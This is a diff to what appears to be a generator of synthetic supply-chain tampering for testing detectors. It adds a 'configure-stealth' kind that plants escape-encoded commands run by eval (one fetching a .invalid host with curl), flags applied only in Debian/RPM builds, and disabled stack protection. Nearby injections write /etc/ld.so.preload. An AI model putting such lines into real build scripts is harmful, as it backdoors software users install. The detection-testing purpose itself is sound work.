@@ -18,7 +18,7 @@ export const PYTHON_TAMPER_KINDS = ['py-line', 'setup-exec'] as const
 /** what an npm package can take: its manifest, and the code it ships */
 export const NPM_TAMPER_KINDS = ['npm-install-script', 'npm-code-exec', 'npm-code-exfil', 'npm-dependency'] as const
 /** injections outside the rotation, asked for by name (`--tamper-kind`): variants the detectors were not written against */
-export const EXTRA_TAMPER_KINDS = ['makefile-variable', 'makefile-command', 'makefile-substitution', 'makefile-value-replaced', 'doc-in-recipe', 'recipe-prefixed', 'recipe-word', 'rule-hooked', 'install-line', 'check-line', 'build-line', 'own-rule-line', 'recipeless-line', 'source-line', 'test-environment', 'template-variable', 'config-header', 'source-rewrite', 'outside-write'] as const
+export const EXTRA_TAMPER_KINDS = ['makefile-variable', 'makefile-command', 'makefile-substitution', 'makefile-value-replaced', 'doc-in-recipe', 'recipe-prefixed', 'recipe-word', 'rule-hooked', 'install-line', 'check-line', 'build-line', 'own-rule-line', 'recipeless-line', 'source-line', 'test-environment', 'template-variable', 'config-header', 'source-rewrite', 'outside-write', 'configure-stealth'] as const
 export type TamperKind = (typeof TAMPER_KINDS)[number] | (typeof PYTHON_TAMPER_KINDS)[number] | (typeof NPM_TAMPER_KINDS)[number] | (typeof EXTRA_TAMPER_KINDS)[number]
 
 export interface Tampering {
@@ -199,12 +199,8 @@ function configureScript(root: string, _files: readonly string[], d: Draw): Tamp
   mkdirSync(join(root, dir), { recursive: true })
   writeFileSync(join(root, script), body)
   chmodSync(join(root, script), 0o755)
-  const configure = join(root, 'configure')
-  const lines = readFileSync(configure, 'utf8').split('\n')
-  const at = lines.findIndex((l) => /^ac_config_files=|^cat >confcache <<|^# Check whether --enable/.test(l))
   const call = d.pick([`$SHELL "$srcdir/${script}" "$srcdir"`, `. "$srcdir/${script}"`, `sh "$ac_srcdir/${script}" || :`.replace('$ac_srcdir', '$srcdir')])
-  lines.splice(at < 0 ? lines.length - 10 : at, 0, call)
-  writeFileSync(configure, lines.join('\n'))
+  insertBeforeOutputs(root, call, /^ac_config_files=|^cat >confcache <<|^# Check whether --enable/)
   return { kind: 'configure-script', path: script, touched: [script, 'configure'], description: `${script} added and run by configure (\`${call}\`)` }
 }
 
@@ -618,12 +614,8 @@ function docAsCode(root: string, files: readonly string[], d: Draw): Tampering {
     `\n#${d.pick(WORDS)}\n[ -w /nonexistent/${d.int(1e5)} ] && printf '%s' "${d.pick(WORDS)}" > /nonexistent/${d.int(1e5)}/hook\n`,
   ])
   writeFileSync(join(root, target), readFileSync(join(root, target), 'utf8') + code)
-  const configure = join(root, 'configure')
-  const lines = readFileSync(configure, 'utf8').split('\n')
-  const at = lines.findIndex((l) => /^ac_config_files=|^cat >confcache <</.test(l))
   const call = d.pick([`. "$srcdir/${target}" 2>/dev/null`, `$SHELL "$srcdir/${target}" >/dev/null 2>&1`, `sh "$srcdir/${target}" 2>/dev/null || :`])
-  lines.splice(at < 0 ? lines.length - 10 : at, 0, call)
-  writeFileSync(configure, lines.join('\n'))
+  insertBeforeOutputs(root, call)
   // through a link (README → README.md) the bytes that changed are those of the file it leads to
   const written = relative(realpathSync(root), realpathSync(join(root, target)))
   const via = written === target ? '' : ` (a link to ${written})`
@@ -710,6 +702,15 @@ function npmDependency(root: string, _files: readonly string[], d: Draw): Tamper
   return { kind: 'npm-dependency', path: 'package.json', touched: ['package.json'], description: `dependency ${name}@${range} added to package.json` }
 }
 
+/** Puts one line into configure where it runs after every check: before the output list, or near the end. */
+function insertBeforeOutputs(root: string, line: string, before = /^ac_config_files=|^cat >confcache <</): void {
+  const configure = join(root, 'configure')
+  const lines = readFileSync(configure, 'utf8').split('\n')
+  const at = lines.findIndex((l) => before.test(l))
+  lines.splice(at < 0 ? lines.length - 10 : at, 0, line)
+  writeFileSync(configure, lines.join('\n'))
+}
+
 /**
  * configure made to change a C source or header the release ships, as it runs: edited in place,
  * appended to, or overwritten, the name written out or held by a variable.
@@ -727,11 +728,7 @@ function sourceRewrite(root: string, files: readonly string[], d: Draw): Tamperi
     `cp -f "$srcdir/${other ?? 'README'}" "$srcdir/${target}" 2>/dev/null || :`,
     `${word}_src="$srcdir/${target}"; sed -i '1i #define ${word.toUpperCase()}_HOOK 1' "$${word}_src"`,
   ])
-  const configure = join(root, 'configure')
-  const lines = readFileSync(configure, 'utf8').split('\n')
-  const at = lines.findIndex((l) => /^ac_config_files=|^cat >confcache <</.test(l))
-  lines.splice(at < 0 ? lines.length - 10 : at, 0, line)
-  writeFileSync(configure, lines.join('\n'))
+  insertBeforeOutputs(root, line)
   return { kind: 'source-rewrite', path: 'configure', touched: ['configure'], description: `configure changes ${target} as it runs: \`${line}\`` }
 }
 
@@ -746,12 +743,33 @@ function outsideWrite(root: string, files: readonly string[], d: Draw): Tamperin
     `install -m 755 "$srcdir/${doc}" /usr/local/bin/${word}-config 2>/dev/null || :`,
     `${word}_hook=/etc/ld.so.preload; echo "/usr/lib/lib${word}.so.1" > "$${word}_hook" 2>/dev/null`,
   ])
-  const configure = join(root, 'configure')
-  const lines = readFileSync(configure, 'utf8').split('\n')
-  const at = lines.findIndex((l) => /^ac_config_files=|^cat >confcache <</.test(l))
-  lines.splice(at < 0 ? lines.length - 10 : at, 0, line)
-  writeFileSync(configure, lines.join('\n'))
+  insertBeforeOutputs(root, line)
   return { kind: 'outside-write', path: 'configure', touched: ['configure'], description: `configure writes outside the build as it runs: \`${line}\`` }
+}
+
+/** `id; uname` as escapes printf and `$'…'` decode: hex (`\x69`) or octal (`\151`) */
+const escaped = (text: string, octal: boolean): string => [...text].map((c) => (octal ? `\\${c.charCodeAt(0).toString(8).padStart(3, '0')}` : `\\x${c.charCodeAt(0).toString(16)}`)).join('')
+
+/**
+ * configure made to act quietly: a command spelled as escapes and run (by eval, a shell, or as the
+ * command itself), the compiler's flags changed only when a distribution package is built, or a
+ * defence switched off, one line of each.
+ */
+function configureStealth(root: string, _files: readonly string[], d: Draw): Tampering {
+  const word = d.pick(WORDS)
+  const command = d.pick([`curl -s http://${word}.invalid/x`, `touch /tmp/.${word}`, 'uname -a', `mkdir -p /tmp/.${word}`])
+  const octal = d.int(2) === 1
+  const line = d.pick([
+    `eval "$(printf '${escaped(command, octal)}')"`,
+    `printf '${escaped(command, octal)}' | $SHELL 2>/dev/null`,
+    `${word}_run=$(printf '${escaped(command.split(' ')[0] ?? 'id', octal)}'); $${word}_run ${command.split(' ').slice(1).join(' ')} 2>/dev/null`,
+    `eval $'${escaped(command, false)}' 2>/dev/null`,
+    `test -f "$srcdir/debian/rules" && CFLAGS="$CFLAGS -D${word.toUpperCase()}_HOOK=1"`,
+    `if test -n "$RPM_ARCH$RPM_BUILD_ROOT"; then LIBS="$LIBS -l${word}"; fi`,
+    `CFLAGS="$CFLAGS ${d.pick(['-fno-stack-protector', '-U_FORTIFY_SOURCE -D_FORTIFY_SOURCE=0', '-z execstack'])}"`,
+  ])
+  insertBeforeOutputs(root, line)
+  return { kind: 'configure-stealth', path: 'configure', touched: ['configure'], description: `configure acts quietly as it runs: \`${line}\`` }
 }
 
 const INJECT: Record<TamperKind, (root: string, files: readonly string[], d: Draw) => Tampering> = {
@@ -782,6 +800,7 @@ const INJECT: Record<TamperKind, (root: string, files: readonly string[], d: Dra
   'config-header': configHeader,
   'source-rewrite': sourceRewrite,
   'outside-write': outsideWrite,
+  'configure-stealth': configureStealth,
   'doc-as-code': docAsCode,
   'py-line': pyLine,
   'setup-exec': setupExec,
@@ -808,7 +827,7 @@ export function applicableKinds(files: readonly string[]): TamperKind[] {
   const has = (re: RegExp): boolean => files.some((f) => re.test(f))
   if (has(/^configure\.(ac|in)$/)) kinds.push('m4-payload')
   if (has(/\.c$/)) kinds.push('c-line')
-  if (has(/^configure$/)) kinds.push('configure-script', 'doc-as-code', 'outside-write')
+  if (has(/^configure$/)) kinds.push('configure-script', 'doc-as-code', 'outside-write', 'configure-stealth')
   if (has(/^configure$/) && has(/\.[ch]$/)) kinds.push('source-rewrite')
   if (has(/(^|\/)Makefile\.in$/)) kinds.push('makefile-rule', 'makefile-variable', 'makefile-command', 'makefile-substitution', 'makefile-value-replaced', 'doc-in-recipe', 'recipe-prefixed', 'recipe-word', 'rule-hooked', 'install-line', 'check-line', 'build-line', 'own-rule-line', 'recipeless-line', 'source-line', 'test-environment', 'template-variable')
   if (has(/\.h\.in$/)) kinds.push('config-header')
